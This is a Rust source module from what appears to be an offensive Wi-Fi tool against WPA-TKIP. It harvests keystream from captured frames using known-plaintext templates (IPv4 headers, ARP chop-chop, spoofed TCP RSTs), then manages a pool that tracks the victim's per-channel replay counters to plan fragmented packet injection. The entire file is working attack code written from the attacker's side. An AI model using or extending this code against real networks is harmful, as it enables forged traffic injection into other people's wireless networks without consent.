//! Known-plaintext keystream harvesting and the pool that feeds
//! fragmented injection.
//!
//! A keystream prefix recovered for TSC `t` can be replayed on every QoS
//! channel whose receive counter is still below `t`, once per channel.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::net::Ipv4Addr;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

use crate::frames::packet::{
    llc_snap, llc_tcp, ArpPacket, Ipv4Header, TcpHeader, ETHERTYPE_ARP, ETHERTYPE_IPV4, IP_FLAG_DF, PROTO_TCP,
    tcp_flags,
};
use crate::frames::{fragment_plan, icv, FragmentSlot, FrameError, Mpdu, ICV_LEN, MAX_FRAGMENTS, MIC_LEN, QOS_CHANNELS};
use crate::michael::{mic_compute, MicHeader, MicKey};

/// Bytes known for nearly every IPv4 frame: LLC/SNAP, version/IHL, DSCP and
/// total length.
pub const LLC_IP_GUESS_LEN: usize = 12;
/// LLC ‖ IPv4 ‖ TCP RST ‖ MIC ‖ ICV.
pub const TCP_RST_FRAME_LEN: usize = 60;
/// DSCP values seen in practice, most likely first.
pub const DSCP_GUESSES: [u8; 2] = [0x00, 0xc0];

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Provenance {
    LlcIpGuess,
    ArpChop,
    TcpRstGuess,
    IcmpEchoLoop,
    WanHandshake,
}

impl Provenance {
    pub fn as_str(self) -> &'static str {
        match self {
            Provenance::LlcIpGuess => "llc-ip",
            Provenance::ArpChop => "arp-chop",
            Provenance::TcpRstGuess => "tcp-rst",
            Provenance::IcmpEchoLoop => "icmp-echo",
            Provenance::WanHandshake => "wan-handshake",
        }
    }
}

impl FromStr for Provenance {
    type Err = PoolError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Ok(match s {
            "llc-ip" => Provenance::LlcIpGuess,
            "arp-chop" => Provenance::ArpChop,
            "tcp-rst" => Provenance::TcpRstGuess,
            "icmp-echo" => Provenance::IcmpEchoLoop,
            "wan-handshake" => Provenance::WanHandshake,
            _ => return Err(PoolError::Format(format!("unknown provenance {s:?}"))),
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KeystreamEntry {
    pub tsc: u64,
    pub bytes: Vec<u8>,
    pub provenance: Provenance,
    pub confirmed: bool,
}

impl KeystreamEntry {
    pub fn new(tsc: u64, bytes: Vec<u8>, provenance: Provenance) -> Self {
        Self {
            tsc,
            bytes,
            provenance,
            confirmed: false,
        }
    }

    /// Keystream from a ciphertext and its known plaintext prefix.
    pub fn from_known(mpdu: &Mpdu, plain: &[u8], provenance: Provenance) -> Self {
        let bytes = mpdu.ciphertext.iter().zip(plain).map(|(c, p)| c ^ p).collect();
        Self::new(mpdu.tsc, bytes, provenance)
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Template {
    LlcIpv4,
    LlcArp,
    TcpRstLinux,
}

/// What the attacker knows about a frame beyond its ciphertext.
#[derive(Debug, Clone, Default)]
pub struct HarvestContext {
    /// Full ARP body, for [`Template::LlcArp`].
    pub arp: Option<ArpPacket>,
    /// RST addressing: source (the spoofed host answering) and destination.
    pub src_ip: Option<Ipv4Addr>,
    pub dst_ip: Option<Ipv4Addr>,
    pub src_port: u16,
    pub dst_port: u16,
    /// Sequence number of the RST, i.e. the ISN of the probing SYN plus one.
    pub seq: u32,
    /// Direction key and MIC header of the frame, when known; lets the
    /// harvest extend over MIC and ICV.
    pub mic: Option<(MicKey, MicHeader)>,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum HarvestError {
    #[error("frame of {got} bytes too short for template needing {needed}")]
    TooShort { got: usize, needed: usize },
    #[error("frame does not fit template: {0}")]
    TemplateMismatch(&'static str),
}

/// Candidate entries for `mpdu` under `template`, most likely first.
///
/// Entries are unconfirmed; attack feedback decides between candidates.
pub fn harvest(mpdu: &Mpdu, template: Template, ctx: &HarvestContext) -> Result<Vec<KeystreamEntry>, HarvestError> {
    let ct = &mpdu.ciphertext;
    if mpdu.fragment_number != 0 || mpdu.more_fragments {
        return Err(HarvestError::TemplateMismatch("fragmented frame"));
    }
    match template {
        Template::LlcIpv4 => {
            if ct.len() < LLC_IP_GUESS_LEN + MIC_LEN + ICV_LEN {
                return Err(HarvestError::TooShort {
                    got: ct.len(),
                    needed: LLC_IP_GUESS_LEN + MIC_LEN + ICV_LEN,
                });
            }
            let total = ct.len() - MIC_LEN - ICV_LEN - 8;
            let total = u16::try_from(total).map_err(|_| HarvestError::TemplateMismatch("oversized frame"))?;
            Ok(DSCP_GUESSES
                .iter()
                .map(|&dscp| {
                    let mut p = llc_snap(ETHERTYPE_IPV4).to_vec();
                    p.extend_from_slice(&[0x45, dscp]);
                    p.extend_from_slice(&total.to_be_bytes());
                    KeystreamEntry::from_known(mpdu, &p, Provenance::LlcIpGuess)
                })
                .collect())
        }
        Template::LlcArp => {
            let arp = ctx.arp.as_ref().ok_or(HarvestError::TemplateMismatch("ARP fields unknown"))?;
            let mut p = llc_snap(ETHERTYPE_ARP).to_vec();
            p.extend_from_slice(&arp.encode());
            let expect = p.len() + MIC_LEN + ICV_LEN;
            if ct.len() != expect {
                return Err(if ct.len() < expect {
                    HarvestError::TooShort {
                        got: ct.len(),
                        needed: expect,
                    }
                } else {
                    HarvestError::TemplateMismatch("not an ARP-sized frame")
                });
            }
            Ok(vec![KeystreamEntry::from_known(mpdu, &with_trailer(p, ctx), Provenance::ArpChop)])
        }
        Template::TcpRstLinux => {
            if ct.len() != TCP_RST_FRAME_LEN {
                return Err(if ct.len() < TCP_RST_FRAME_LEN {
                    HarvestError::TooShort {
                        got: ct.len(),
                        needed: TCP_RST_FRAME_LEN,
                    }
                } else {
                    HarvestError::TemplateMismatch("not an RST-sized frame")
                });
            }
            let (src, dst) = ctx
                .src_ip
                .zip(ctx.dst_ip)
                .ok_or(HarvestError::TemplateMismatch("RST addresses unknown"))?;
            if ctx.mic.is_none() {
                return Err(HarvestError::TemplateMismatch("RST harvest needs the MIC key"));
            }
            let tcp = TcpHeader::new(ctx.src_port, ctx.dst_port, ctx.seq, 0, tcp_flags::RST);
            Ok([IP_FLAG_DF, 0]
                .iter()
                .map(|&flags_frag| {
                    let ip = Ipv4Header {
                        flags_frag,
                        ..Ipv4Header::new(src, dst, PROTO_TCP, 20)
                    };
                    let p = with_trailer(llc_tcp(&ip, &tcp, &[]), ctx);
                    KeystreamEntry::from_known(mpdu, &p, Provenance::TcpRstGuess)
                })
                .collect())
        }
    }
}

/// Append MIC and ICV when the MIC key is known.
fn with_trailer(mut body: Vec<u8>, ctx: &HarvestContext) -> Vec<u8> {
    if let Some((key, header)) = &ctx.mic {
        if let Ok(mic) = mic_compute(key, header, &body) {
            body.extend_from_slice(&mic);
            let c = icv(&body);
            body.extend_from_slice(&c);
        }
    }
    body
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PoolError {
    #[error("no channel can take this injection")]
    NoUsableChannel,
    #[error("TSC {tsc:#x} cannot be used again on channel {channel}")]
    ReplayViolation { tsc: u64, channel: u8 },
    #[error("no keystream for TSC {0:#x}")]
    UnknownTsc(u64),
    #[error(transparent)]
    Plan(#[from] FrameError),
    #[error("keystream file: {0}")]
    Format(String),
}

#[derive(Debug, Clone, PartialEq, Eq)]
struct Slot {
    entry: KeystreamEntry,
    alternates: Vec<Vec<u8>>,
    used: u8,
}

/// Keystream entries keyed by TSC plus the attacker's view of the victim's
/// per-channel replay counters.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct KeystreamPool {
    slots: BTreeMap<u64, Slot>,
    estimates: [u64; QOS_CHANNELS],
}

impl KeystreamPool {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn len(&self) -> usize {
        self.slots.len()
    }

    pub fn is_empty(&self) -> bool {
        self.slots.is_empty()
    }

    pub fn get(&self, tsc: u64) -> Option<&KeystreamEntry> {
        self.slots.get(&tsc).map(|s| &s.entry)
    }

    pub fn entries(&self) -> impl Iterator<Item = &KeystreamEntry> {
        self.slots.values().map(|s| &s.entry)
    }

    pub fn estimate(&self, channel: u8) -> u64 {
        self.estimates[usize::from(channel) % QOS_CHANNELS]
    }

    /// Record a frame seen on the air toward the victim.
    pub fn observe(&mut self, channel: u8, tsc: u64) {
        let e = &mut self.estimates[usize::from(channel) % QOS_CHANNELS];
        *e = (*e).max(tsc);
    }

    /// Add harvest candidates for one TSC; the first becomes active.
    ///
    /// An existing entry is kept if it is confirmed or at least as long as
    /// the new one.
    pub fn insert(&mut self, candidates: Vec<KeystreamEntry>) {
        let mut it = candidates.into_iter();
        let Some(first) = it.next() else { return };
        let alternates: Vec<Vec<u8>> = it.filter(|e| e.tsc == first.tsc).map(|e| e.bytes).collect();
        match self.slots.get_mut(&first.tsc) {
            Some(s) if s.entry.confirmed || s.entry.bytes.len() >= first.bytes.len() => {}
            Some(s) => {
                s.entry = first;
                s.alternates = alternates;
            }
            None => {
                self.slots.insert(
                    first.tsc,
                    Slot {
                        entry: first,
                        alternates,
                        used: 0,
                    },
                );
            }
        }
    }

    pub fn confirm(&mut self, tsc: u64) {
        if let Some(s) = self.slots.get_mut(&tsc) {
            s.entry.confirmed = true;
            s.alternates.clear();
        }
    }

    /// The active candidate was wrong: promote the next one, or drop the
    /// entry when none is left. Returns whether an entry remains.
    pub fn reject(&mut self, tsc: u64) -> bool {
        let Some(s) = self.slots.get_mut(&tsc) else { return false };
        if s.entry.confirmed || s.alternates.is_empty() {
            self.slots.remove(&tsc);
            return false;
        }
        s.entry.bytes = s.alternates.remove(0);
        true
    }

    pub fn remove(&mut self, tsc: u64) -> Option<KeystreamEntry> {
        self.slots.remove(&tsc).map(|s| s.entry)
    }

    fn usable(&self, s: &Slot, channel: u8) -> bool {
        s.used & (1 << channel) == 0 && s.entry.tsc > self.estimate(channel)
    }

    /// Channels on which `tsc` can still be injected.
    pub fn usable_channels(&self, tsc: u64) -> Vec<u8> {
        match self.slots.get(&tsc) {
            Some(s) => (0..QOS_CHANNELS as u8).filter(|&c| self.usable(s, c)).collect(),
            None => Vec::new(),
        }
    }

    /// The up to `max` longest entries usable on `channel` with TSC below
    /// `below`, ascending by TSC.
    fn best(&self, channel: u8, below: u64, max: usize) -> Vec<(u64, usize)> {
        let mut v: Vec<(u64, usize)> = self
            .slots
            .range(..below)
            .map(|(_, s)| s)
            .filter(|s| self.usable(s, channel) && s.entry.bytes.len() > ICV_LEN)
            .map(|s| (s.entry.tsc, s.entry.bytes.len()))
            .collect();
        // Longest first, older first among equals.
        v.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        v.truncate(max);
        v.sort_unstable();
        v
    }

    /// Largest MSDU body injectable on `channel` (MIC bytes excluded).
    pub fn inject_capacity(&self, channel: u8) -> Result<usize, PoolError> {
        if self.slots.is_empty() {
            return Ok(0);
        }
        let best = self.best(channel, u64::MAX, MAX_FRAGMENTS);
        if best.is_empty() {
            return Err(PoolError::NoUsableChannel);
        }
        let cap: usize = best.iter().map(|&(_, l)| l - ICV_LEN).sum();
        Ok(cap.saturating_sub(MIC_LEN))
    }

    /// Plan for an MSDU body of `body_len` bytes on `channel`.
    pub fn plan(&self, channel: u8, body_len: usize) -> Result<Vec<FragmentSlot>, PoolError> {
        self.plan_bounded(channel, body_len + MIC_LEN, u64::MAX, MAX_FRAGMENTS)
    }

    /// Plan for `len` raw bytes (MIC included if any) over at most `max`
    /// fragments whose TSCs stay below `below`.
    pub fn plan_bounded(&self, channel: u8, len: usize, below: u64, max: usize) -> Result<Vec<FragmentSlot>, PoolError> {
        let best = self.best(channel, below, max);
        if best.is_empty() {
            return Err(PoolError::NoUsableChannel);
        }
        Ok(fragment_plan(len, &best)?)
    }

    /// Plan over exactly the given TSCs.
    pub fn plan_with(&self, tscs: &[u64], channel: u8, len: usize) -> Result<Vec<FragmentSlot>, PoolError> {
        let mut slots = Vec::with_capacity(tscs.len());
        for &t in tscs {
            let s = self.slots.get(&t).ok_or(PoolError::UnknownTsc(t))?;
            if !self.usable(s, channel) {
                return Err(PoolError::ReplayViolation { tsc: t, channel });
            }
            slots.push((t, s.entry.bytes.len()));
        }
        Ok(fragment_plan(len, &slots)?)
    }

    /// First channel able to carry `body_len` bytes, with its plan.
    pub fn plan_any(&self, body_len: usize) -> Result<(u8, Vec<FragmentSlot>), PoolError> {
        (0..QOS_CHANNELS as u8)
            .find_map(|c| self.plan(c, body_len).ok().map(|p| (c, p)))
            .ok_or(PoolError::NoUsableChannel)
    }

    /// Keep only entries matching `keep`.
    pub fn retain(&mut self, mut keep: impl FnMut(&KeystreamEntry) -> bool) {
        self.slots.retain(|_, s| keep(&s.entry));
    }

    /// Mark the plan's TSCs as spent on `channel`.
    pub fn consume(&mut self, plan: &[FragmentSlot], channel: u8) -> Result<(), PoolError> {
        let channel = channel % QOS_CHANNELS as u8;
        let mut last = self.estimate(channel);
        for f in plan {
            let s = self.slots.get(&f.tsc).ok_or(PoolError::UnknownTsc(f.tsc))?;
            if !self.usable(s, channel) || f.tsc <= last {
                return Err(PoolError::ReplayViolation { tsc: f.tsc, channel });
            }
            last = f.tsc;
        }
        for f in plan {
            if let Some(s) = self.slots.get_mut(&f.tsc) {
                s.used |= 1 << channel;
            }
        }
        self.observe(channel, last);
        Ok(())
    }

    /// Keystream bytes for a planned fragment, covering its ICV.
    pub fn keystream_for(&self, slot: &FragmentSlot) -> Result<&[u8], PoolError> {
        let e = self.get(slot.tsc).ok_or(PoolError::UnknownTsc(slot.tsc))?;
        Ok(&e.bytes[..slot.range.len() + ICV_LEN])
    }

    /// Text form: a `TKKS 1` line, then `tsc provenance confirmed hex` per entry.
    pub fn to_tkks(&self) -> String {
        let mut s = String::from("TKKS 1\n");
        for e in self.entries() {
            let _ = writeln!(
                s,
                "{} {} {} {}",
                e.tsc,
                e.provenance.as_str(),
                u8::from(e.confirmed),
                hex::encode(&e.bytes)
            );
        }
        s
    }

    pub fn from_tkks(text: &str) -> Result<Self, PoolError> {
        let mut lines = text.lines().filter(|l| !l.trim().is_empty() && !l.starts_with('#'));
        if lines.next().map(str::trim) != Some("TKKS 1") {
            return Err(PoolError::Format("missing TKKS 1 header".into()));
        }
        let mut pool = Self::new();
        for (n, line) in lines.enumerate() {
            let bad = |what: &str| PoolError::Format(format!("record {n}: {what}"));
            let f: Vec<&str> = line.split_whitespace().collect();
            let [tsc, prov, confirmed, bytes] = f[..] else {
                return Err(bad("expected 4 fields"));
            };
            let mut e = KeystreamEntry::new(
                tsc.parse().map_err(|_| bad("tsc"))?,
                hex::decode(bytes).map_err(|_| bad("hex bytes"))?,
                prov.parse()?,
            );
            e.confirmed = match confirmed {
                "0" => false,
                "1" => true,
                _ => return Err(bad("confirmed flag")),
            };
            pool.insert(vec![e]);
        }
        Ok(pool)
    }
}
